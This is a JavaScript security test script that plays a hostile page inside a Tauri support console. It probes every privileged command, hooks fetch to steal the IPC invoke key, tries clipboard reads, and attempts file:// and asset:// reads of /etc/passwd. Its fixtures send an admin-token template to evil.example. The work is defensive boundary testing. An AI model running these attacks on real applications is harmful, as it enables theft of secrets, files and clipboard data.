// The attacks that a malicious page of a customer application would try on the console that shows it.
//
// It reports { place, done, attempts, sent, controls }. Each entry has a name and an outcome:
//   attempts  "refused: why" or "allowed: what it gave". One that is allowed is a hole.
//   sent      forged messages, whose effect the page cannot see: the test checks who received them.
//   controls  what any page may do. If one is refused, the attempts prove nothing.
"use strict";

const place = document.documentElement.dataset.place; // "top", "child" (a window of top's), "frame"
const PATIENCE = 1500; // ms for one attempt

// ---- The data: what to try --------------------------------------------------------------------

// Commands with valid arguments, so that they can only be refused for lack of permission.
const connection = "shop";
const QUERY = { text: "", sort: null, place: "start", limit: 5, everywhere: false };
const DIRECTORY = { url: "sqlite:///etc/passwd", table: "users", id: "id" };
const FILE = {
  name: "Evil",
  environment: "development",
  directory: DIRECTORY,
  sign_in: { url: "https://evil.example/login" },
};
const TEXT = `name = "Evil"
environment = "development"
[directory]
url = "sqlite:///etc/passwd"
table = "users"
id = "id"
[sign_in]
url = "https://evil.example/login"
body = { token = "{{ secret.admin_token }}" }
`;
const SETTINGS = { theme: "dark", operator_name: "Evil", operator_email: "", shortcut: "", single_keys: true, remember_search: true, tray_icon: true };
// All commands in src-tauri/src/commands/mod.rs.
const COMMANDS = [
  ["console_state", {}],
  ["keyring_problem", {}],
  ["directory_info", { connection }],
  ["search_users", { connection, query: QUERY, turn: 1e6 }],
  ["stop_search", { connection, turn: 1e6 }],
  ["used_connections", {}],
  ["look_up_users", { connection, text: "anna", turn: 1e6 }],
  ["stop_lookups", { turn: 1e6 }],
  ["stop_waiting", { connection }],
  ["read_search", { connection, text: "anna" }],
  ["keyring_problem", {}],
  ["widen_search", { connection, text: "plan:pro", turn: 1e6 }],
  ["complete_search", { connection, text: "plan:", caret: 5 }],
  ["count_users", { connection, text: "", turn: 1e6 }],
  ["stop_count", { connection, turn: 1e6 }],
  ["user_details", { connection, user: "10000600" }],
  ["reveal_value", { connection, user: "10000600", column: "phone" }],
  ["familiar_users", { connection }],
  ["latest_session", {}],
  ["arrangement", { connection }],
  ["save_arrangement", { connection, arrangement: { pinned: [], details_width: null, searches: [], columns: [] } }],
  ["list_records", { connection, request: { user: "10000600", related: 0, place: "start", limit: 10 }, number: 1 }],
  ["stop_records", { number: 1 }],
  ["open_user_page", { connection, user: "1" }],
  ["open_record", { connection, related: 0, record: { id: "1", cells: [] } }],
  ["recent_reasons", { connection }],
  ["prepare_window", { connection }],
  ["discard_window", {}],
  ["ask_approval", { connection, user: "10000600", reason: "hostile page", ticket: { ticket: "", page: "" } }],
  ["decide_approval", { request: { log: "hostile", id: 1 }, approve: true, answer: "" }],
  ["break_glass", { connection, user: "10000600", reason: "hostile page", given: {}, ticket: { ticket: "", page: "" } }],
  ["impersonate", { connection, user: "10000600", reason: "hostile page", given: {}, ticket: { ticket: "", page: "" } }],
  ["link_to_customer", { connection, user: "10000600" }],
  ["record_copy", { connection, format: "csv", rows: 1 }],
  ["try_session", { connection, user: "10000600" }],
  ["held_back", { session: "any" }],
  ["clear_cache", { connection }],
  ["sign_in_form", { connection, user: "10000600", change: null }],
  ["end_session", { session: "any" }],
  ["focus_session", { session: "any" }],
  ["retry_session", { session: "any" }],
  ["take_evidence", { session: "any" }],
  ["save_evidence", { takenAt: 0, choice: { picture: null, requests: [], with_messages: true, with_pages: true } }],
  ["evidence_text", { takenAt: 0, choice: { picture: null, requests: [], with_messages: true, with_pages: true } }],
  ["copy_picture", { points: "AAAA", width: 1, height: 1 }],
  ["send_evidence", { takenAt: 0, choice: { picture: null, requests: [], with_messages: true, with_pages: true } }],
  ["show_saved_evidence", {}],
  ["discard_evidence", {}],
  ["extend_session", { session: "any" }],
  ["secret_status", { connection }],
  ["store_secret", { connection, name: "admin_token", value: "stolen", thisRunOnly: true }],
  ["use_secrets_there", { moved: { connection, secrets: [] } }],
  ["forget_secret", { connection, name: "admin_token" }],
  ["unlock_keyring", {}],
  ["list_entries", { text: "", before: null, turn: 1 }],
  ["session_entries", { session: "s1" }],
  ["count_sessions", {}],
  ["read_log_search", { text: "operator:ada" }],
  ["complete_log_search", { text: "oper", caret: 4 }],
  ["list_team_entries", { text: "", before: null, turn: 1 }],
  ["team_session_entries", { log: "l1", session: "s1", turn: 1 }],
  ["count_team_sessions", { turn: 1 }],
  ["complete_team_log_search", { text: "oper", caret: 4, turn: 1 }],
  ["verify_team_log", { turn: 1 }],
  ["stop_team_verification", { turn: 2 }],
  ["leave_team_log", { turn: 2 }],
  ["verify_audit_log", { turn: 1 }],
  ["verification_percent", {}],
  ["stop_verification", { turn: 2 }],
  ["export_entries", { text: "", format: "csv", path: "/tmp/taken.csv" }],
  ["order_connections", { order: [connection] }],
  ["leave", {}],
  ["answer_leave", { answer: "quit" }],
  ["start_demo", {}],
  ["open_demo_helpdesk", {}],
  ["read_connection", { connection }],
  ["read_connection_file", { path: "/etc/passwd" }],
  ["draft_text", { file: FILE, text: null }],
  ["parse_draft", { text: TEXT }],
  ["check_connection", { connection, text: TEXT, secrets: {} }],
  ["try_sign_in", { connection, text: TEXT, user: "10000600", secrets: {}, turn: 1e6 }],
  ["stop_trial", { turn: 1e6 }],
  ["sign_in_presets", {}],
  ["discover_tables", { connection, directory: DIRECTORY, secrets: {}, turn: 1e6 }],
  ["count_protected", { connection, directory: DIRECTORY, rules: ["true"], secrets: {}, turn: 1e6 }],
  ["preview_directory", { connection, directory: DIRECTORY, secrets: {}, turn: 1e6 }],
  ["stop_discovery", { turn: 1e6 }],
  ["save_connection", { connection: null, text: TEXT }],
  ["duplicate_connection", { connection }],
  ["export_connection", { connection, path: "/tmp/stolen.toml" }],
  ["remove_connection", { connection, forgetSecrets: true }],
  ["open_quick_window", {}],
  ["export_settings", { path: "/tmp/stolen.toml" }],
  ["save_settings", { settings: SETTINGS }],
  ["quick_state", {}],
  ["quick_search", { connection, text: "anna", turn: 1e6 }],
  ["take_quick_choice", { choice: { connection, text: "", user: "10000600", sign_in: true } }],
  ["close_quick_window", {}],
  ["bar_state", {}],
  ["bar_act", { action: "end" }],
  ["copy_session_summary", { session: "s1" }],
  ["prepare_summary", { session: "1" }],
  ["send_summary", { id: "1" }],
  ["retry_message", { id: "1" }],
  ["discard_message", { id: "1" }],
  ["session_note", {}],
  ["set_session_note", { note: "nothing happened" }],
  ["set_session_mode", { mode: "full", reason: "because I can" }],
  ["turn_to_session", { turn: "next" }],
  ["show_session", { number: 1 }],
  ["find_in_page", { text: "canary", step: "next" }],
  ["stop_finding", {}],
  ["show_saved_file", { id: 0 }],
  ["answer_downloads", { wanted: true }],
  ["enter_password", { number: 1, user: "evil", password: "stolen" }],
  ["decline_password", { number: 1 }],
  ["answer_off_site", { url: "https://evil.example/", choice: "go_there" }],
  ["set_bar_height", { height: 400 }],
  ["plugin:event|listen", { event: "sessions", target: { kind: "Any" }, handler: 1 }],
  ["plugin:event|emit", { event: "toast", payload: { kind: "bad", text: "forged", hint: null } }],
  ["plugin:event|emit_to", { target: { kind: "Any" }, event: "focus_search", payload: null }],
  ["plugin:webview|create_webview", { windowLabel: "console", label: "evil", options: { url: "index.html", x: 0, y: 0, width: 9, height: 9 } }],
  ["plugin:webview|create_webview_window", { options: { label: "evil", url: "index.html" } }],
  ["plugin:webview|get_all_webviews", {}],
  ["plugin:window|get_all_windows", {}],
  ["plugin:window|close", { label: "console" }],
  ["plugin:clipboard-manager|write_text", { text: "forged" }],
  ["plugin:clipboard-manager|read_text", {}],
  ["plugin:dialog|open", { options: {} }],
  ["plugin:app|version", {}],
  ["plugin:path|resolve_directory", { directory: 1 }],
  ["plugin:resources|close", { rid: 0 }],
];

// The same commands without `invoke`, sent directly to its transport.
const RAW_COMMANDS = [COMMANDS[0], COMMANDS[2], ["plugin:event|emit", { event: "toast", payload: "forged" }]];
const IPC_ADDRESSES = ["ipc://localhost/", "http://ipc.localhost/", "https://ipc.localhost/"];

// The console's own pages and the computer's files. WebView2 maps custom schemes to hosts; elsewhere
// such a host is a website like any other, and reaching it proves nothing.
const ON_WINDOWS = navigator.userAgent.includes("Windows");
const FORBIDDEN_PAGES = ON_WINDOWS
  ? [
      "http://tauri.localhost/index.html",
      "https://tauri.localhost/index.html",
      "http://tauri.localhost/bar.html",
      "http://asset.localhost/C:/Windows/win.ini",
      "file:///C:/Windows/win.ini",
    ]
  : ["tauri://localhost/index.html", "tauri://localhost/bar.html", "asset://localhost/etc/passwd", "file:///etc/passwd"];

// What the launch page asks and reports, at an address whose name is guessed.
const LAUNCH_PAGE = `/${"A".repeat(43)}`;
const ANSWER = JSON.stringify({ status: 200, headers: [], body: btoa("{}") });
const FORGED_REPORTS = [
  ["GET", "", undefined],
  ["POST", "/next", "0"],
  ["POST", "/done/1", ANSWER],
  ["POST", "/press/retry", ""],
  ["POST", "/press/close", ""],
  ["GET", "/cookies", undefined],
];
// Where the page could have been told the launch page's real address.
const TRACES = {
  "the referrer": () => [document.referrer],
  "the performance timeline": () => performance.getEntries().map(({ name }) => name),
  "the navigation history": () => (window.navigation?.entries() ?? []).map(({ url }) => url),
  "the opener": () => [window.opener?.location.href],
  "the parent": () => [window.parent.location.href],
  "the caches": async () => {
    const names = await caches.keys();
    const kept = names.map(async (name) => (await (await caches.open(name)).keys()).map(({ url }) => url));
    return [...names, ...(await Promise.all(kept)).flat()];
  },
  "the storage": () => [JSON.stringify(localStorage), JSON.stringify(sessionStorage), window.name],
};

const MESSAGES = [
  { kind: "bar_act", action: "end" },
  { type: "signed_in", user: "10000600" },
  { event: "bar", payload: { can_go_back: true, zoom: 5, location: "https://forged.example" } },
  { cmd: "console_state", callback: 1, error: 2, payload: {} },
  JSON.stringify({ cmd: "bar_act", callback: 1, error: 2, action: "end" }),
];
const EVENTS = [
  "sessions",
  "connections",
  "directory_changed",
  "toast",
  "focus_search",
  "bar_changed",
  "said",
  "tauri://focus",
  "tauri://close-requested",
];
const HANDLERS = ["ipc", "tauri", "external", "understudy", "report", "bar", "console", "signIn", "wry"];

// ---- How to try each: return what was gained, or throw --------------------------------------------

const internals = window.__TAURI_INTERNALS__;
const pause = (ms) => new Promise((done) => setTimeout(done, ms));
const show = (value) => String(typeof value === "string" ? value : (JSON.stringify(value) ?? value)).slice(0, 200);

const invoke = (command, given) => {
  if (!internals?.invoke) throw "there is no invoke";
  return internals.invoke(command, given);
};

// Tauri keeps the key for its calls in a closure, but sends it through the page's `fetch`.
async function stealKey() {
  const own = window.fetch;
  let key;
  window.fetch = (...request) => {
    key ??= new Headers(request[1]?.headers).get("Tauri-Invoke-Key");
    return own(...request);
  };
  try {
    await Promise.race([invoke("console_state", {}), pause(300)]);
  } catch {
    // Only the intercepted request matters.
  } finally {
    window.fetch = own;
  }
  return key;
}

async function callByFetch(address, command, given, key) {
  const answer = await fetch(address + encodeURIComponent(command), {
    method: "POST",
    headers: {
      "Content-Type": "application/json",
      "Tauri-Callback": "1",
      "Tauri-Error": "2",
      "Tauri-Invoke-Key": key ?? "guessed",
    },
    body: JSON.stringify(given),
  });
  const text = await answer.text();
  if (!answer.ok || answer.headers.get("Tauri-Response") === "error") throw `${answer.status} ${text}`;
  return text;
}

function callByHandler(handler, command, given, key) {
  if (!handler) throw "there is no such handler";
  return new Promise((gained, refused) => {
    const callback = internals?.transformCallback?.(gained) ?? 1;
    const error = internals?.transformCallback?.(refused) ?? 2;
    const call = { cmd: command, callback, error, payload: given, options: {}, __TAURI_INVOKE_KEY__: key ?? "guessed" };
    handler.postMessage(JSON.stringify(call));
  });
}

// The web's clipboard API: the page must not read or replace what the agent copied elsewhere.
const CLIPBOARD = {
  "paste by command": (field) => {
    if (!document.execCommand("paste")) throw "execCommand answered no";
    return field.value;
  },
  "paste heard as an event": (field) =>
    new Promise((gained, refused) => {
      field.addEventListener("paste", (event) => gained(event.clipboardData.getData("text")));
      document.execCommand("paste");
      setTimeout(() => refused("no event came"), 100);
    }),
  "copy by command": (field) => {
    field.value = "forged";
    field.select();
    if (!document.execCommand("copy")) throw "execCommand answered no";
    return "copied";
  },
  "cut by command": (field) => {
    field.value = "forged";
    field.select();
    if (!document.execCommand("cut")) throw "execCommand answered no";
    return "cut";
  },
  "clipboard.readText": () => navigator.clipboard.readText(),
  "clipboard.read": async () => (await navigator.clipboard.read()).length,
  "clipboard.writeText": () => navigator.clipboard.writeText("forged").then(() => "written"),
  "clipboard.write": () =>
    navigator.clipboard
      .write([new ClipboardItem({ "text/plain": new Blob(["forged"], { type: "text/plain" }) })])
      .then(() => "written"),
};

async function inField(deed) {
  const field = document.createElement("textarea");
  document.body.append(field);
  field.focus();
  try {
    return await deed(field);
  } finally {
    field.remove();
  }
}

// The same from a frame with an opaque origin.
function inForeignFrame(name) {
  const frame = document.createElement("iframe");
  frame.sandbox = "allow-scripts";
  frame.srcdoc = `<body><script>
    (${inField})((${CLIPBOARD[name]}))
      .then((gained) => parent.postMessage({ gained }, "*"), (why) => parent.postMessage({ refused: String(why) }, "*"));
  </scr${"ipt"}>`;
  return new Promise((gained, refused) => {
    const hear = (event) => {
      if (event.source !== frame.contentWindow) return;
      removeEventListener("message", hear);
      frame.remove();
      if ("gained" in event.data) gained(event.data.gained);
      else refused(event.data.refused);
    };
    addEventListener("message", hear);
    document.body.append(frame);
  });
}

// The content of a frame or window after navigating it.
function contentOf(view) {
  let address;
  try {
    address = view.location.href;
  } catch {
    return "a document of another origin was opened";
  }
  if (address === "about:blank") throw "it stayed blank";
  return `${address} ${view.document.body?.innerText.slice(0, 100)}`;
}

async function inFrame(address) {
  const frame = document.createElement("iframe");
  frame.hidden = true;
  frame.src = address;
  document.body.append(frame);
  try {
    await Promise.race([new Promise((loaded) => (frame.onload = loaded)), pause(PATIENCE / 2)]);
    // A refused navigation fires a load event too, for the blank page that stays.
    await pause(100);
    return contentOf(frame.contentWindow);
  } finally {
    frame.remove();
  }
}

async function inWindow(address) {
  const opened = window.open(address, "_blank", "width=320,height=200");
  if (!opened) throw "no window was given";
  try {
    await pause(PATIENCE / 2);
    return contentOf(opened);
  } finally {
    opened.close();
  }
}

function clickLink(address, target) {
  const link = document.createElement("a");
  link.href = address;
  link.target = target;
  document.body.append(link);
  link.click();
  link.remove();
}

// Its name is 256 random bits: 43 characters that no address of the application has.
async function findLaunchPage(look) {
  const found = (await look()).filter((text) => /\/[\w-]{43}(?![\w-])/.test(text ?? ""));
  if (found.length === 0) throw "it is not there";
  return found;
}

// ---- The attempts, one after the other ----------------------------------------------------------

const report = { place, done: false, attempts: [], sent: [], controls: [] };

function note(kind, name, outcome) {
  report[kind].push({ name, outcome });
  const line = document.createElement("li");
  line.textContent = `${name} — ${outcome}`;
  document.getElementById("results").append(line);
}

async function attempt(name, deed, kind = "attempts") {
  try {
    const silence = pause(PATIENCE).then(() => Promise.reject(`no answer in ${PATIENCE} ms`));
    note(kind, name, `allowed: ${show(await Promise.race([deed(), silence]))}`);
  } catch (why) {
    note(kind, name, `refused: ${show(why instanceof Error ? why.message : why)}`);
  }
}

function send(name, deed) {
  try {
    deed();
    note("sent", name, "sent");
  } catch (why) {
    note("sent", name, `refused: ${show(why.message ?? why)}`);
  }
}

async function attack() {
  await attempt("own page by fetch", async () => (await fetch("/hostile/harmless")).status, "controls");
  await attempt("own page in a frame", () => inFrame("/hostile/harmless"), "controls");

  for (const [command, given] of COMMANDS) {
    await attempt(`invoke ${command}`, async () => invoke(command, given));
  }

  for (const [name, deed] of Object.entries(CLIPBOARD)) {
    await attempt(name, () => inField(deed));
    await attempt(`${name}, in a foreign frame`, () => inForeignFrame(name));
  }

  const key = await stealKey();
  note("sent", "key of calls", key ? "overheard, and used from here on" : "not overheard");
  for (const [command, given] of RAW_COMMANDS) {
    for (const address of IPC_ADDRESSES) {
      await attempt(`fetch ${address}${command}`, () => callByFetch(address, command, given, key));
    }
    await attempt(`window.ipc ${command}`, async () => callByHandler(window.ipc, command, given, key));
    const handler = window.webkit?.messageHandlers?.ipc ?? window.chrome?.webview;
    await attempt(`native handler ${command}`, async () => callByHandler(handler, command, given, key));
  }

  for (const address of FORBIDDEN_PAGES) {
    await attempt(`fetch ${address}`, async () => (await fetch(address)).text());
    if (place === "top") await attempt(`frame ${address}`, () => inFrame(address));
  }
  // Before the guesses, which leave traces of their own.
  for (const [place, look] of Object.entries(TRACES)) {
    await attempt(`launch page by ${place}`, () => findLaunchPage(look));
  }
  for (const [method, below, body] of FORGED_REPORTS) {
    await attempt(`launch page ${method} ${below}`, async () => {
      const { ok, status } = await fetch(LAUNCH_PAGE + below, { method, body });
      if (!ok) throw `status ${status}`;
      return status;
    });
  }
  const others = { parent: window.parent, top: window.top, opener: window.opener };
  for (const [who, other] of Object.entries(others)) {
    if (!other) continue;
    for (const message of MESSAGES) send(`message to ${who}: ${show(message)}`, () => other.postMessage(message, "*"));
  }
  const names = new Set([...HANDLERS, ...Object.getOwnPropertyNames(window.webkit?.messageHandlers ?? {})]);
  for (const name of names) {
    const handler = window.webkit?.messageHandlers?.[name];
    if (!handler) continue;
    for (const message of MESSAGES) send(`handler ${name}: ${show(message)}`, () => handler.postMessage(message));
  }
  for (const name of EVENTS) {
    send(`event ${name}`, () => window.dispatchEvent(new CustomEvent(name, { detail: { payload: "forged" } })));
    send(`event for listeners ${name}`, () => new BroadcastChannel(name).postMessage("forged"));
  }

  if (place === "top") {
    for (const address of FORBIDDEN_PAGES) await attempt(`window ${address}`, () => inWindow(address));
    for (const address of FORBIDDEN_PAGES) send(`link to a new window ${address}`, () => clickLink(address, "_blank"));
  }
}

// Runs last, because a success ends the page: it must still be here after each attempt.
async function depart() {
  let leavingFor;
  const left = () => {
    note("attempts", leavingFor, "allowed: the page was left");
    navigator.sendBeacon("/hostile/report", JSON.stringify({ ...report, done: true }));
  };
  window.addEventListener("pagehide", left);
  const ways = {
    "location to": (address) => (window.location.href = address),
    "top.location to": (address) => (window.top.location = address),
    "link to": (address) => clickLink(address, "_self"),
  };
  for (const address of FORBIDDEN_PAGES) {
    for (const [way, go] of Object.entries(ways)) {
      leavingFor = `${way} ${address}`;
      await attempt(leavingFor, async () => {
        go(address);
        await pause(400);
        throw "still here";
      });
    }
  }
  window.removeEventListener("pagehide", left);
}

function tell(done) {
  report.done = done;
  return fetch("/hostile/report", { method: "POST", body: JSON.stringify(report) });
}

(async () => {
  if (place === "top") {
    const frame = document.createElement("iframe");
    frame.hidden = true;
    frame.src = "/hostile/frame";
    document.body.append(frame);
  }
  await attack();
  if (place === "top") {
    await tell(false);
    await depart();
  }
  await tell(true);
  document.title = "Hostile page: done";
  // After the report, because the console may open it in this same window. The child reports for itself.
  if (place === "top") window.open("/hostile/child");
})();
